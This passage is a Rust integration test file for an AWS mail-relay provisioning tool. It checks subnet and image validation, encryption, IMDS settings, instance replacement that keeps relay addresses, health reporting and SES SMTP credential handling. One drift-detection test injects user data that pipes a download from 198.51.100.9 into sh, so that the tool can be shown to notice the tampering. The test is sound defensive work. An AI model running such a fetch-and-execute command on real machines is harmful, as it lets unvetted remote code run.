                .values("running")
                .build(),
        )
        .send()
        .await
        .unwrap();
    let running: Vec<_> = out
        .reservations()
        .iter()
        .flat_map(|r| r.instances())
        .collect();
    assert_eq!(running.len(), 1);
    assert_eq!(running[0].subnet_id(), Some(subnet.as_str()));
    assert_eq!(
        running[0].security_groups()[0].group_id(),
        Some(now[0].0.as_str())
    );
}

#[tokio::test]
async fn the_default_subnet_is_one_whose_zone_offers_the_type() {
    // Not every zone offers every instance type; EC2 refuses a launch in one that does not.
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    acct.ec2_hook("withhold-type", "type=t3.micro&zone=eu-west-1a");
    apply(&acct, "b.yaml");
    let ec2 = acct.ec2(R);
    let out = ec2
        .describe_instances()
        .filters(owned())
        .send()
        .await
        .unwrap();
    let subnet = out.reservations()[0].instances()[0]
        .subnet_id()
        .unwrap()
        .to_owned();
    let subnets = ec2
        .describe_subnets()
        .subnet_ids(&subnet)
        .send()
        .await
        .unwrap();
    assert_eq!(
        subnets.subnets()[0].availability_zone(),
        Some("eu-west-1b"),
        "the first zone by name that offers t3.micro"
    );

    // A named subnet in a zone that does not offer the type stops the plan.
    let subnets = ec2
        .describe_subnets()
        .filters(
            Filter::builder()
                .name("availability-zone")
                .values("eu-west-1a")
                .build(),
        )
        .send()
        .await
        .unwrap();
    let named = subnets.subnets()[0].subnet_id().unwrap().to_owned();
    acct.write(
        "c.yaml",
        &GATEWAY.replace(
            "  relay_from:",
            &format!("  subnet: {named}\n  relay_from:"),
        ),
    );
    let plan = acct.mailinfra(&["plan", "c.yaml"]);
    assert_eq!(plan.code, 1, "{}\n{}", plan.stdout, plan.stderr);
    assert!(
        plan.stderr.contains(&format!(
            "the instance type `t3.micro` is not offered in eu-west-1a, the zone of subnet `{named}`"
        )),
        "{}",
        plan.stderr
    );
}

#[tokio::test]
async fn a_subnet_that_reaches_the_internet_through_a_nat_stops_the_plan() {
    // Mail would leave from the NAT's address: SPF (ip4:<Elastic IP>) and reverse DNS would
    // silently not match the sender.
    let acct = Account::new();
    acct.create_zone("example.com").await;
    let (_, subnet) = vpc_with_subnet(&acct, "10.2.0.0/16", "eu-west-1a", "nat").await;
    acct.write(
        "b.yaml",
        &GATEWAY.replace(
            "  relay_from:",
            &format!("  subnet: {subnet}\n  relay_from:"),
        ),
    );
    let before = writes(&acct);
    let run = acct.mailinfra(&["apply", "b.yaml", "--yes"]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains(&format!(
            "subnet `{subnet}` sends internet traffic through nat-"
        )) && run.stderr.contains("not an internet gateway")
            && run.stderr.contains("SPF and reverse DNS would not match"),
        "{}",
        run.stderr
    );
    assert_eq!(writes(&acct), before, "{:?}", acct.requests());
}

/// An image registered in this account, as a team that builds its own would: x86_64, root
/// device /dev/xvda, declaring `ImdsSupport: v2.0` (which raises EC2's default hop limit).
async fn own_image(acct: &Account) -> String {
    acct.ec2(R)
        .register_image()
        .name("relay-base")
        .architecture(aws_sdk_ec2::types::ArchitectureValues::X8664)
        .root_device_name("/dev/xvda")
        .imds_support(aws_sdk_ec2::types::ImdsSupportValues::V20)
        .send()
        .await
        .unwrap()
        .image_id()
        .unwrap()
        .to_owned()
}

#[tokio::test]
async fn the_root_volume_is_encrypted_and_the_metadata_service_one_hop_away() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    let image = own_image(&acct).await;
    acct.write(
        "b.yaml",
        &GATEWAY.replace("  relay_from:", &format!("  image: {image}\n  relay_from:")),
    );
    apply(&acct, "b.yaml");
    let out = acct
        .ec2(R)
        .describe_instances()
        .filters(owned())
        .send()
        .await
        .unwrap();
    let instance = &out.reservations()[0].instances()[0];
    let imds = instance.metadata_options().unwrap();
    assert_eq!(imds.http_tokens().unwrap().as_str(), "required");
    assert_eq!(imds.http_put_response_hop_limit(), Some(1));
    let volumes = acct
        .ec2(R)
        .describe_volumes()
        .filters(
            Filter::builder()
                .name("attachment.instance-id")
                .values(instance.instance_id().unwrap())
                .build(),
        )
        .send()
        .await
        .unwrap();
    let volumes = volumes.volumes();
    assert!(!volumes.is_empty());
    for v in volumes {
        assert_eq!(v.encrypted(), Some(true), "{v:?}");
        let attached = &v.attachments()[0];
        assert_eq!(attached.device(), Some("/dev/xvda"), "{v:?}");
    }
}

#[tokio::test]
async fn a_pinned_image_of_another_owner_stops_the_plan_before_any_write() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    let images = acct
        .ec2(R)
        .describe_images()
        .owners("801119661308")
        .send()
        .await
        .unwrap();
    let foreign = images
        .images()
        .iter()
        .find(|i| i.architecture().map(|a| a.as_str()) == Some("x86_64"))
        .unwrap()
        .image_id()
        .unwrap()
        .to_owned();
    acct.write(
        "b.yaml",
        &GATEWAY.replace(
            "  relay_from:",
            &format!("  image: {foreign}\n  relay_from:"),
        ),
    );
    let before = writes(&acct);
    let run = acct.mailinfra(&["apply", "b.yaml", "--yes"]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains(&format!(
            "the image `{foreign}` is owned by account 801119661308, neither Debian (136693071363) nor this account"
        )),
        "{}",
        run.stderr
    );
    assert_eq!(writes(&acct), before, "{:?}", acct.requests());

    // The account's own image is launched.
    let image = own_image(&acct).await;
    acct.write(
        "b.yaml",
        &GATEWAY.replace("  relay_from:", &format!("  image: {image}\n  relay_from:")),
    );
    apply(&acct, "b.yaml");
}

#[tokio::test]
async fn user_data_changed_outside_mailinfra_replaces_the_instance() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    apply(&acct, "b.yaml");
    let id = running(&instances(&acct).await)[0].clone();
    // As AWS requires: stop, change the user data, start.
    let ec2 = acct.ec2(R);
    ec2.stop_instances().instance_ids(&id).send().await.unwrap();
    ec2.modify_instance_attribute()
        .instance_id(&id)
        .user_data(
            aws_sdk_ec2::types::SecureBlobAttributeValue::builder()
                .value(aws_sdk_ec2::primitives::Blob::new(
                    "#!/bin/sh\ncurl -s http://198.51.100.9/x | sh\n",
                ))
                .build(),
        )
        .send()
        .await
        .unwrap();
    ec2.start_instances()
        .instance_ids(&id)
        .send()
        .await
        .unwrap();

    let plan = acct.mailinfra(&["plan", "b.yaml"]);
    assert!(
        plan.stdout.contains("replace gateway.instance"),
        "{}\n{}",
        plan.stdout,
        plan.stderr
    );
    assert!(
        plan.stdout.contains("user data: changed outside mailinfra"),
        "{}",
        plan.stdout
    );
    apply(&acct, "b.yaml");
    let now = running(&instances(&acct).await);
    assert_eq!(now.len(), 1);
    assert_ne!(now[0], id);
}

/// The address the plan and `status` print for senders (`relayhost = [ip]`).
fn relayhost(acct: &Account, file: &str) -> String {
    let run = acct.mailinfra(&["status", file]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let line = run
        .stdout
        .lines()
        .find(|l| l.contains("relayhost = ["))
        .unwrap_or_else(|| panic!("no relayhost line in status:\n{}", run.stdout));
    let ip = line.split("relayhost = [").nth(1).unwrap();
    ip.split(']').next().unwrap().to_owned()
}

/// (id, private IP, attached instance) of the blueprint's network interfaces.
async fn interfaces(acct: &Account) -> Vec<(String, String, Option<String>)> {
    let out = acct
        .ec2(R)
        .describe_network_interfaces()
        .filters(owned())
        .send()
        .await
        .unwrap();
    out.network_interfaces()
        .iter()
        .map(|n| {
            (
                n.network_interface_id().unwrap().to_owned(),
                n.private_ip_address().unwrap().to_owned(),
                n.attachment()
                    .and_then(|a| a.instance_id())
                    .filter(|i| !i.is_empty())
                    .map(str::to_owned),
            )
        })
        .collect()
}

#[tokio::test]
async fn a_replaced_instance_keeps_the_address_senders_relay_to() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    apply(&acct, "b.yaml");
    let before = relayhost(&acct, "b.yaml");
    let old = running(&instances(&acct).await)[0].clone();
    let (allocation, ip, _) = eips(&acct).await[0].clone();
    let eni = interfaces(&acct).await;
    assert_eq!(eni.len(), 1, "{eni:?}");
    assert_eq!(eni[0].1, before, "senders relay to the interface's address");
    assert_eq!(eni[0].2.as_deref(), Some(old.as_str()));

    // A new sending domain renders a new boot script: the instance is replaced.
    acct.create_zone("example.org").await;
    let more = GATEWAY.replace(
        "    dmarc: { policy: none }\n",
        "    dmarc: { policy: none }\n  - domain: example.org\n    send_via: [gateway]\n",
    );
    acct.write("b.yaml", &more);
    let plan = acct.mailinfra(&["plan", "b.yaml"]);
    assert!(
        plan.stdout.contains("± replace gateway.instance"),
        "{}",
        plan.stdout
    );
    assert!(
        plan.stdout
            .contains(&format!("the private IP {before} and the Elastic IP stay")),
        "the plan says the address stays: {}",
        plan.stdout
    );
    apply(&acct, "b.yaml");
    let now = running(&instances(&acct).await);
    assert_eq!(now.len(), 1);
    assert_ne!(now[0], old);
    assert_eq!(relayhost(&acct, "b.yaml"), before, "senders need no change");
    assert_eq!(
        eips(&acct).await,
        vec![(allocation, ip, Some(now[0].clone()))],
        "the Elastic IP stays with the interface"
    );
    let after = interfaces(&acct).await;
    assert_eq!(after.len(), 1, "{after:?}");
    assert_eq!(after[0].0, eni[0].0, "the same interface");
    assert_eq!(after[0].2.as_deref(), Some(now[0].as_str()));

    // Destroy names the interface it deletes, and deletes it.
    let run = acct.mailinfra(&["destroy", "b.yaml", "--yes"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stdout.contains(&format!("{} ({before})", eni[0].0)),
        "the destroy plan names the interface: {}",
        run.stdout
    );
    assert!(interfaces(&acct).await.is_empty());
}

#[tokio::test]
async fn a_replacement_killed_between_termination_and_launch_is_finished_by_the_next() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    apply(&acct, "b.yaml");
    let before = relayhost(&acct, "b.yaml");
    let old = running(&instances(&acct).await)[0].clone();
    let (allocation, ip, _) = eips(&acct).await[0].clone();

    acct.write(
        "b.yaml",
        &GATEWAY.replace("  relay_from:", "  instance_type: t3.small\n  relay_from:"),
    );
    acct.delay("ec2.RunInstances", 30.0);
    let mut child = acct.spawn(&["apply", "b.yaml", "--yes"]);
    let start = std::time::Instant::now();
    while !running(&instances(&acct).await).is_empty() {
        assert!(start.elapsed().as_secs() < 30, "the old instance stayed");
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    child.kill().unwrap(); // SIGKILL, the launch held
    let _ = child.wait();
    acct.delay("ec2.RunInstances", 0.0);
    assert!(running(&instances(&acct).await).is_empty());
    let eni = interfaces(&acct).await;
    assert_eq!(eni.len(), 1, "{eni:?}");
    assert_eq!(eni[0].2, None, "the interface is free, its address kept");

    apply(&acct, "b.yaml");
    let now = running(&instances(&acct).await);
    assert_eq!(now.len(), 1);
    assert_ne!(now[0], old);
    assert_eq!(relayhost(&acct, "b.yaml"), before);
    assert_eq!(
        eips(&acct).await,
        vec![(allocation, ip, Some(now[0].clone()))]
    );
    assert_eq!(interfaces(&acct).await[0].0, eni[0].0);
}

fn rfc3339(secs_ago: u64) -> String {
    let t = std::time::SystemTime::now() - std::time::Duration::from_secs(secs_ago);
    aws_smithy_types::DateTime::from(t)
        .fmt(aws_smithy_types::date_time::Format::DateTime)
        .unwrap()
}

/// The gateway's `health:` line in `status`.
fn health_line(acct: &Account) -> String {
    let run = acct.mailinfra(&["status", "b.yaml"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    run.stdout
        .lines()
        .find_map(|l| l.trim().strip_prefix("health: "))
        .unwrap_or_else(|| panic!("no health line:\n{}", run.stdout))
        .to_owned()
}

#[tokio::test]
async fn the_gateway_reports_its_health_with_its_own_role_and_status_and_plan_read_it() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", GATEWAY);
    apply(&acct, "b.yaml");
    let instance = running(&instances(&acct).await)[0].clone();
    assert!(
        health_line(&acct).contains("no report yet"),
        "{}",
        health_line(&acct)
    );

    // The gateway writes with its own role (policy and boundary as apply made them).
    let gateway = aws_sdk_ssm::Client::new(
        &acct.config_with(acct.instance_credentials("mailinfra-relay-gateway"), R),
    );
    let report = |time: &str, user_data: &str, boot: &str| {
        format!(
            r#"{{"time":"{time}","instance":"{instance}","user_data_sha256":"{user_data}",{boot},"postfix_running":true,"opendkim_running":true,"dkim_key_failed":null,"queue":2,"deferred":1}}"#
        )
    };
    let put = |value: String| {
        let gateway = gateway.clone();
        async move {
            gateway
                .put_parameter()
                .name("/mailinfra/relay/gateway/health")
                .r#type(aws_sdk_ssm::types::ParameterType::String)
                .overwrite(true)
                .value(value)
                .send()
                .await
        }
    };
    let ok_boot = r#""boot":"ok","boot_step":null,"boot_reason":null"#;
    let sha = acct.user_data_sha256(&instance).await;
    let now = rfc3339(0);
    put(report(&now, &sha, ok_boot)).await.unwrap();
    assert_eq!(
        health_line(&acct),
        format!(
            "configured as the blueprint says at {now} (Postfix and OpenDKIM running, 2 queued, 1 deferred)"
        )
    );
    clean(&acct, "b.yaml");

    // That parameter only: not the key's, not another one.
    for name in [
        "/mailinfra/relay/dkim/mta1/public",
        "/mailinfra/relay/gateway/other",
    ] {
        let err = gateway
            .put_parameter()
            .name(name)
            .r#type(aws_sdk_ssm::types::ParameterType::String)
            .overwrite(true)
            .value("x")
            .send()
            .await
            .unwrap_err();
        use aws_sdk_ssm::error::ProvideErrorMetadata as _;
        assert_eq!(err.code(), Some("AccessDeniedException"), "{name}");
    }

    // A failed boot step, with its reason: status and every plan say so.
    put(report(
        &now,
        &sha,
        r#""boot":"failed","boot_step":"install packages","boot_reason":"exit 100: apt-get install -y -q postfix opendkim""#,
    ))
    .await
    .unwrap();
    assert_eq!(
        health_line(&acct),
        format!(
            "boot failed at step `install packages`: exit 100: apt-get install -y -q postfix opendkim (reported at {now})"
        )
    );
    let plan = acct.mailinfra(&["plan", "b.yaml"]);
    assert_eq!(plan.code, 0, "{}", plan.stderr);
    assert!(
        plan.stdout.contains("Needs attention")
            && plan.stdout.contains(&format!(
                "Gateway {instance}: boot failed at step `install packages`"
            )),
        "{}",
        plan.stdout
    );

    // Booted with other user data than the blueprint renders.
    put(report(&now, &"0".repeat(64), ok_boot)).await.unwrap();
    let plan = acct.mailinfra(&["plan", "b.yaml"]);
    assert!(
        plan.stdout.contains(&format!(
            "Gateway {instance} runs another configuration than the blueprint"
        )),
        "{}",
        plan.stdout
    );

    // Silent: the last report is 20 minutes old.
    let then = rfc3339(20 * 60);
    put(report(&then, &sha, ok_boot)).await.unwrap();
    assert_eq!(health_line(&acct), format!("not reporting since {then}"));
    let json = acct.mailinfra(&["status", "b.yaml", "--json"]);
    let json: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(
        json["gateway"]["health"],
        format!("not reporting since {then}")
    );

    // Destroy removes the report with the gateway.
    let run = acct.mailinfra(&["destroy", "b.yaml", "--yes"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stdout.contains("/mailinfra/relay/gateway/health"),
        "{}",
        run.stdout
    );
    assert!(
        acct.ssm(R)
            .get_parameter()
            .name("/mailinfra/relay/gateway/health")
            .send()
            .await
            .is_err()
    );
}

const CREDENTIALS: &str = "/mailinfra/relay/ses-smtp/credentials";
const SMTP_USER: &str = "mailinfra-relay-ses-smtp";

/// The SMTP user's access key ids, and the one the credentials parameter names.
async fn smtp_keys(acct: &Account) -> (Vec<String>, Option<String>) {
    let ids = acct.access_key_ids(SMTP_USER).await;
    let named = smtp_keys_parameter(acct).await.and_then(|d| {
        d.split_whitespace()
            .find(|w| w.starts_with("AKIA") || w.starts_with("ASIA"))
            .map(str::to_owned)
    });
    (ids, named)
}

/// A gateway relaying through SES, applied under the CI role: an SMTP user bounded by the
/// gateway's boundary, one access key, its SMTP password stored under the blueprint's KMS key
/// where only the gateway's role can decrypt it; no Elastic IP, no reverse DNS, no A, SPF or
/// DKIM record of the gateway's own, no port-25 to-do; and a second plan finds nothing.
#[tokio::test]
async fn a_gateway_relaying_through_ses_gets_smtp_credentials_and_no_address() {
    use aws_sdk_ssm::error::ProvideErrorMetadata as _;
    let acct = Account::new();
    let zone = acct.create_zone("example.com").await;
    acct.write("b.yaml", SES_RELAY);
    let plan = acct.mailinfra(&["plan", "b.yaml"]);
    assert_eq!(plan.code, 0, "{}\n{}", plan.stdout, plan.stderr);
    for absent in ["gateway.eip", "gateway.dkim_key", "port-25", "reverse_dns"] {
        assert!(!plan.stdout.contains(absent), "{absent}:\n{}", plan.stdout);
    }
    for present in [
        "gateway.smtp_user",
        "gateway.smtp_credentials",
        "never shown",
    ] {
        assert!(plan.stdout.contains(present), "{present}:\n{}", plan.stdout);
    }
    apply(&acct, "b.yaml");

    assert!(eips(&acct).await.is_empty());
    assert_eq!(running(&instances(&acct).await).len(), 1);
    let records = acct.records(&zone).await;
    assert!(
        !records
            .keys()
            .any(|(name, _)| name.starts_with("mail.example.com")
                || name.starts_with("mta1._domainkey")),
        "{records:?}"
    );
    let user = acct
        .iam()
        .get_user()
        .user_name(SMTP_USER)
        .send()
        .await
        .unwrap();
    let boundary = user
        .user()
        .and_then(|u| u.permissions_boundary())
        .and_then(|b| b.permissions_boundary_arn())
        .unwrap()
        .to_owned();
    assert!(
        boundary.ends_with(":policy/mailinfra-relay-gateway-boundary"),
        "{boundary}"
    );
    let (keys, named) = smtp_keys(&acct).await;
    assert_eq!(keys.len(), 1, "{keys:?}");
    assert_eq!(named.as_ref(), Some(&keys[0]));

    // The gateway's role reads `user:password`: the user is the access key, the password
    // SES's version 4 (a 0x04 byte and 32 bytes of HMAC, base64).
    let gateway = aws_sdk_ssm::Client::new(
        &acct.config_with(acct.instance_credentials("mailinfra-relay-gateway"), R),
    );
    let value = gateway
        .get_parameter()
        .name(CREDENTIALS)
        .with_decryption(true)
        .send()
        .await
        .unwrap()
        .parameter()
        .and_then(|p| p.value())
        .unwrap()
        .to_owned();
    let (id, password) = value.split_once(':').unwrap();
    assert_eq!(id, keys[0]);
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(password)
        .unwrap();
    assert_eq!((bytes.len(), bytes[0]), (33, 4));
    // Nobody else decrypts it: not a role allowed every SSM and KMS action.
    let admin = acct.assume(
        "admin",
        r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["ssm:*","kms:*"],"Resource":"*"}]}"#,
    );
    let refused = aws_sdk_ssm::Client::new(&acct.config_with(admin, R))
        .get_parameter()
        .name(CREDENTIALS)
        .with_decryption(true)
        .send()
        .await
        .unwrap_err();
    assert_eq!(refused.code(), Some("AccessDeniedException"), "{refused:?}");
    // The secret never printed.
    for run in [&plan, &acct.mailinfra(&["plan", "b.yaml"])] {
        assert!(!run.stdout.contains(password) && !run.stderr.contains(password));
    }
    let status = acct.mailinfra(&["status", "b.yaml"]);
    assert!(
        status
            .stdout
            .contains("relays through Amazon SES: not ready")
            && status.stdout.contains(&keys[0]),
        "{}",
        status.stdout
    );
    assert!(!status.stdout.contains(password));
}

/// A run killed after the access key was made but before its password was stored leaves a
/// key nobody can use: the next plan deletes it and makes another, so the user never holds
/// more than IAM's two. A key added by hand beside the stored one's is deleted.
#[tokio::test]
async fn smtp_credentials_lost_halfway_are_made_again_with_at_most_two_keys() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    acct.write("b.yaml", SES_RELAY);
    apply(&acct, "b.yaml");
    let (first, _) = smtp_keys(&acct).await;

    // Killed between CreateAccessKey and PutParameter: a second key, the parameter gone.
    acct.iam()
        .create_access_key()
        .user_name(SMTP_USER)
        .send()
        .await
        .unwrap();
    acct.ssm(R)
        .delete_parameter()
        .name(CREDENTIALS)
        .send()
        .await
        .unwrap();
    let before = running(&instances(&acct).await);
    let plan = acct.mailinfra(&["plan", "b.yaml"]);
    assert!(
        plan.stdout.contains("+ create  gateway.smtp_credentials"),
        "{}",
        plan.stdout
    );
    // The instance reads the credentials when it boots: it is replaced to read the new ones.
    assert!(
        plan.stdout.contains("smtp_credentials: as fetched at boot"),
        "{}",
        plan.stdout
    );
    apply(&acct, "b.yaml");
    let after = running(&instances(&acct).await);
    assert_eq!(after.len(), 1);
    assert_ne!(after, before);
    let (keys, named) = smtp_keys(&acct).await;
    assert_eq!(keys.len(), 1, "{keys:?}");
    assert!(!first.contains(&keys[0]), "a new key: {first:?} {keys:?}");
    assert_eq!(named.as_ref(), Some(&keys[0]));

    // A stray key beside the stored one: deleted, the stored one kept.
    acct.iam()
        .create_access_key()
        .user_name(SMTP_USER)
        .send()
        .await
        .unwrap();
    let plan = acct.mailinfra(&["plan", "b.yaml"]);
    assert!(plan.stdout.contains("stale_access_key"), "{}", plan.stdout);
    apply(&acct, "b.yaml");
    assert_eq!(smtp_keys(&acct).await.0, keys);

    // destroy removes the user, its key and the credentials.
    let run = acct.mailinfra(&["destroy", "b.yaml", "--yes"]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(
        acct.iam()
            .get_user()
            .user_name(SMTP_USER)
            .send()
            .await
            .is_err()
    );
    assert_eq!(smtp_keys_parameter(&acct).await, None);
}

/// The credentials parameter's description, if the parameter exists.
async fn smtp_keys_parameter(acct: &Account) -> Option<String> {
    acct.ssm(R)
        .describe_parameters()
        .parameter_filters(
            aws_sdk_ssm::types::ParameterStringFilter::builder()
                .key("Name")
                .values(CREDENTIALS)
                .build()
                .unwrap(),
        )
        .send()
        .await
        .unwrap()
        .parameters()
        .first()
        .and_then(|p| p.description().map(str::to_owned))
}

/// Switching modes is a plan like any other, and senders keep their relay address: direct to
/// SES releases the Elastic IP and removes the gateway's own records; back to direct removes
/// the SMTP user and its credentials.
#[tokio::test]
async fn switching_between_direct_and_ses_keeps_the_relay_address() {
    let acct = Account::new();
    acct.create_zone("example.com").await;
    let direct = SES_RELAY.replace("  relay_via: ses\n", "");
    acct.write("b.yaml", &direct);
    apply(&acct, "b.yaml");
    let interfaces = |acct: &Account| {
        let ec2 = acct.ec2(R);
        async move {
            let out = ec2
                .describe_network_interfaces()
                .filters(owned())
                .send()
                .await
                .unwrap();
            out.network_interfaces()
                .iter()
                .map(|n| n.private_ip_address().unwrap().to_owned())
                .collect::<Vec<_>>()
        }
    };
    let address = interfaces(&acct).await;
    assert_eq!(address.len(), 1);
    assert_eq!(eips(&acct).await.len(), 1);

    acct.write("b.yaml", SES_RELAY);
    let plan = acct.mailinfra(&["plan", "b.yaml"]);
    for shown in [
        "- delete  gateway.eip",
        "gateway.smtp_credentials",
        "replace gateway.instance",
    ] {
        assert!(plan.stdout.contains(shown), "{shown}:\n{}", plan.stdout);
    }
    apply(&acct, "b.yaml");
    assert!(eips(&acct).await.is_empty());
    assert_eq!(interfaces(&acct).await, address);

    acct.write("b.yaml", &direct);
    let plan = acct.mailinfra(&["plan", "b.yaml"]);
    assert!(
        plan.stdout.contains("- delete  gateway.smtp_user"),
        "{}",
        plan.stdout
    );
    apply(&acct, "b.yaml");
    assert_eq!(interfaces(&acct).await, address);
    assert_eq!(eips(&acct).await.len(), 1);
    assert!(
        acct.iam()
            .get_user()
            .user_name(SMTP_USER)
            .send()
            .await
            .is_err()
    );
}
